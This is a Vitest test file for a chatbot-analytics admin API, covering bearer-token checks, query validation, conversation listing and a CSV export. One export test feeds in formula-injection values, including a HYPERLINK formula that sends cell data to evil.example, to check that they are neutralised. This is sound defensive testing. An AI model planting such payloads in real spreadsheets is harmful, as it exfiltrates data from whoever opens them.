// The admin read API: bearer-token auth, query validation, conversations, CSV export.
import { describe, expect, it, vi } from 'vitest';
import { SITE, TOKEN, admin, collect, envelope, makeApp, summary } from './test-fixtures.ts';
import { describeStores } from './test-stores.ts';

const ADMIN_PATHS = [`/v1/metrics?site=${SITE}`, `/v1/conversations?site=${SITE}`, `/v1/export.csv?site=${SITE}`, '/v1/sites'];

describeStores('admin API', (kind) => {
  describe('admin authentication', () => {
    it.each(ADMIN_PATHS)('%s requires the bearer token', async (path) => {
      const { app } = await makeApp({ kind });
      const attempts: Array<Record<string, string>> = [
        {},
        { Authorization: '' },
        { Authorization: TOKEN },
        { Authorization: `Basic ${Buffer.from(`admin:${TOKEN}`).toString('base64')}` },
        { Authorization: 'Bearer ' },
        { Authorization: 'Bearer wrong' },
        { Authorization: `Bearer ${TOKEN.slice(0, -1)}` }, // shorter
        { Authorization: `Bearer ${TOKEN}x` }, // longer
        { Authorization: `Bearer ${TOKEN.slice(0, -1)}X` }, // same length, last char differs
        { Authorization: `Bearer ${'x'.repeat(10_000)}` },
      ];
      for (const headers of attempts) {
        const res = await app.request(path, { headers });
        expect(res.status, JSON.stringify(headers).slice(0, 80)).toBe(401);
        expect(res.headers.get('WWW-Authenticate')).toBe('Bearer');
        expect(await res.json()).toEqual({ error: 'unauthorized' });
      }
      expect((await admin(app, path)).status).toBe(200);
    });

    it('does not accept the token as a query parameter', async () => {
      const { app } = await makeApp({ kind });
      expect((await app.request(`/v1/metrics?site=${SITE}&token=${TOKEN}`)).status).toBe(401);
    });

    it('lists sites', async () => {
      const { app } = await makeApp({ kind });
      const res = await admin(app, '/v1/sites');
      // `key` is the site's stable id; `keys` its public keys (a site created without one has its id as key).
      expect(await res.json()).toEqual({
        sites: [
          {
            key: SITE,
            name: 'Shop',
            origins: ['https://shop.example', 'https://*.shop.example'],
            enabled: true,
            keys: [{ key: SITE, createdAt: expect.any(String), expiresAt: null, state: 'active' }],
          },
        ],
      });
    });
  });

  describe('GET /v1/metrics query validation', () => {
    it.each([
      ['', 'site'],
      [`site=${SITE}&groupBy=week`, 'groupBy'],
      [`site=${SITE}&groupBy=visitor`, 'groupBy'],
      [`site=${SITE}&from=yesterday`, 'from'],
      [`site=${SITE}&to=2024-13-45`, 'to'],
      [`site=${SITE}&from=2024-03-02T00:00:00Z&to=2024-03-01T00:00:00Z`, 'from'],
      [`site=${SITE}&from=2024-03-01T00:00:00Z&to=2024-03-01T00:00:00Z`, 'from'],
      [`site=${SITE}&from=0&to=99999999999999999999`, 'to'],
      [`site=${SITE}&from=8640000000000001&to=1`, 'from'],
    ])('?%s → 400 on %s', async (query, path) => {
      const { app } = await makeApp({ kind });
      const res = await admin(app, `/v1/metrics?${query}`);
      expect(res.status).toBe(400);
      const body = (await res.json()) as { error: string; issues: Array<{ path: string }> };
      expect(body.error).toBe('invalid_query');
      expect(body.issues.map((i) => i.path)).toContain(path);
    });

    it.each(['day', 'page', 'release', 'intent'])('accepts groupBy=%s', async (groupBy) => {
      const { app } = await makeApp({ kind });
      const res = await admin(app, `/v1/metrics?site=${SITE}&groupBy=${groupBy}`);
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({ groupBy, groups: [] });
    });

    it('defaults to the last 7 days, with a previous period of the same length', async () => {
      vi.useFakeTimers({ toFake: ['Date'], now: Date.parse('2024-06-15T12:00:00Z') });
      try {
        const { app } = await makeApp({ kind });
        await collect(app, envelope([summary({ id: 'in', startedAt: '2024-06-14T12:00:00Z', endedAt: '2024-06-14T12:05:00Z' })]));
        await collect(app, envelope([summary({ id: 'prev', startedAt: '2024-06-05T12:00:00Z', endedAt: '2024-06-05T12:05:00Z' })]));
        await collect(app, envelope([summary({ id: 'old', startedAt: '2024-05-01T12:00:00Z', endedAt: '2024-05-01T12:05:00Z' })]));
        const body = (await (await admin(app, `/v1/metrics?site=${SITE}`)).json()) as Record<string, any>;
        const from = Date.parse(body.from);
        const to = Date.parse(body.to);
        expect(to - from).toBe(7 * 86_400_000);
        expect(to).toBeGreaterThanOrEqual(Date.parse('2024-06-15T12:00:00Z'));
        expect(body.conversations).toBe(1);
        expect(body.previous.conversations).toBe(1);
      } finally {
        vi.useRealTimers();
      }
    });
  });

  describe('GET /v1/conversations', () => {
    it('returns the stored summaries newest first, honouring limit and the period', async () => {
      const { app } = await makeApp({ kind });
      const days = ['2024-03-01', '2024-03-03', '2024-03-02', '2024-03-05', '2024-03-04'];
      const sent = days.map((d, i) => summary({ id: `d${i}`, startedAt: `${d}T10:00:00.000Z`, endedAt: `${d}T10:05:00.000Z` }));
      expect((await collect(app, envelope(sent))).status).toBe(202);

      const all = (await (await admin(app, `/v1/conversations?site=${SITE}&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z`)).json()) as {
        site: string;
        conversations: Array<{ id: string; startedAt: string }>;
      };
      expect(all.site).toBe(SITE);
      expect(all.conversations.map((c) => c.startedAt.slice(0, 10))).toEqual(['2024-03-05', '2024-03-04', '2024-03-03', '2024-03-02', '2024-03-01']);
      expect(all.conversations[0]).toEqual(sent[3]);

      const two = (await (await admin(app, `/v1/conversations?site=${SITE}&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z&limit=2`)).json()) as {
        conversations: Array<{ id: string }>;
      };
      expect(two.conversations.map((c) => c.id)).toEqual(['d3', 'd4']);

      const window = (await (await admin(app, `/v1/conversations?site=${SITE}&from=2024-03-02T00:00:00Z&to=2024-03-04T00:00:00Z`)).json()) as {
        conversations: Array<{ id: string }>;
      };
      expect(window.conversations.map((c) => c.id)).toEqual(['d1', 'd2']);
    });

    it('clamps limit to at least 1 and falls back to the default for junk', async () => {
      const { app } = await makeApp({ kind });
      await collect(app, envelope([summary(), summary(), summary()]));
      const count = async (limit: string) =>
        ((await (await admin(app, `/v1/conversations?site=${SITE}&from=0&limit=${limit}`)).json()) as { conversations: unknown[] }).conversations.length;
      expect(await count('0')).toBe(1);
      expect(await count('-4')).toBe(1);
      expect(await count('abc')).toBe(3);
      expect(await count('')).toBe(3);
      expect(await count('2')).toBe(2);
    });

    it('filters by outcome', async () => {
      const { app } = await makeApp({ kind });
      await collect(app, envelope([summary({ id: 'ok' }), summary({ id: 'gone', outcome: 'abandoned', resolution: null, endReason: 'exit' })]));
      const res = await admin(app, `/v1/conversations?site=${SITE}&from=0&outcome=abandoned`);
      expect(((await res.json()) as { conversations: Array<{ id: string }> }).conversations.map((c) => c.id)).toEqual(['gone']);
    });

    it('validates the site and the period', async () => {
      const { app } = await makeApp({ kind });
      expect((await admin(app, '/v1/conversations')).status).toBe(400);
      expect((await admin(app, `/v1/conversations?site=${SITE}&from=nope`)).status).toBe(400);
    });
  });

  describe('GET /v1/export.csv', () => {
    it('exports a header and one CSV row per conversation, formulas neutralised', async () => {
      const { app } = await makeApp({ kind });
      const evil = summary({
        id: 'evil',
        visitor: '-v1',
        release: '=1+2',
        intent: '@cmd',
        csat: { score: 1, comment: '=HYPERLINK("http://evil.example/?"&A1,"Click")' },
        sentiment: { first: -0.5, last: 0.25, min: -0.5, mean: 0 },
        traceIds: ['t1', 't2'],
        thumbs: { up: 1, down: 2 },
        outcome: 'unresolved',
        resolution: null,
      });
      const plain = summary({ id: 'plain', startedAt: '2024-03-09T10:00:00.000Z', endedAt: '2024-03-09T10:05:00.000Z', csat: { score: 5, comment: 'great, "really"\nthanks' } });
      expect((await collect(app, envelope([evil, plain]))).status).toBe(202);

      const res = await admin(app, `/v1/export.csv?site=${SITE}&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z`);
      expect(res.status).toBe(200);
      expect(res.headers.get('Content-Type')).toMatch(/^text\/csv/);
      expect(res.headers.get('Content-Disposition')).toBe(`attachment; filename="chatpulse-${SITE}.csv"`);
      const text = await res.text();
      const lines = text.split('\r\n');
      expect(lines[0]).toBe(
        'id,revision,visitor,page,release,intent,startedAt,endedAt,endReason,outcome,resolution,userMessages,botMessages,thumbsUp,thumbsDown,csat,csatComment,handoff,sentimentFirst,sentimentLast,negativeStreak,simulated,traceIds',
      );
      // newest first: evil (03-10) then plain (03-09); the plain comment's line break is inside quotes
      expect(lines[1]).toBe(
        `evil,1,'-v1,https://shop.example/help,'=1+2,'@cmd,2024-03-10T10:00:00.000Z,2024-03-10T10:05:00.000Z,end,unresolved,,2,2,1,2,1,` +
          `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",false,-0.5,0.25,0,false,t1 t2`,
      );
      expect(text).toContain('"great, ""really""\nthanks"');
      expect(text.endsWith('\r\n')).toBe(true);
      // no cell starts with a formula character
      for (const cell of text.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@]/);
    });

    it('filters by outcome, intent, release and signal, in the list and the export alike', async () => {
      const { app } = await makeApp({ kind });
      const rows = [
        summary({ id: 'down', intent: 'billing', thumbs: { up: 0, down: 1 }, outcome: 'unresolved', resolution: null }),
        summary({ id: 'human', intent: 'billing', release: null, handoff: true, outcome: 'escalated', resolution: null }),
        summary({ id: 'angry', intent: null, negativeStreak: 3, outcome: 'abandoned', resolution: null }),
        summary({ id: 'fine', intent: 'shipping', negativeStreak: 1 }),
      ];
      expect((await collect(app, envelope(rows))).status).toBe(202);
      const ids = async (filter: string) => {
        const res = await admin(app, `/v1/conversations?site=${SITE}&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z${filter}`);
        return ((await res.json()) as { conversations: Array<{ id: string }> }).conversations.map((c) => c.id).sort();
      };
      expect(await ids('&signal=thumbs-down')).toEqual(['down']);
      expect(await ids('&signal=handoff')).toEqual(['human']);
      expect(await ids('&signal=negative-streak')).toEqual(['angry']);
      expect(await ids('&intent=billing')).toEqual(['down', 'human']);
      expect(await ids('&intent=(none)')).toEqual(['angry']);
      expect(await ids('&release=(none)')).toEqual(['human']);
      expect(await ids('&intent=billing&outcome=escalated')).toEqual(['human']);
      const csv = await (await admin(app, `/v1/export.csv?site=${SITE}&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z&signal=negative-streak`)).text();
      expect(csv.split('\r\n').filter(Boolean).map((line) => line.split(',')[0])).toEqual(['id', 'angry']);
      for (const bad of ['&signal=sad', '&outcome=great']) {
        const res = await admin(app, `/v1/conversations?site=${SITE}${bad}`);
        expect(res.status).toBe(400);
      }
    });

    it('exports only the header when there is nothing in the period', async () => {
      const { app } = await makeApp({ kind });
      const res = await admin(app, `/v1/export.csv?site=${SITE}&from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z`);
      expect((await res.text()).split('\r\n').filter(Boolean)).toHaveLength(1);
    });
  });
});
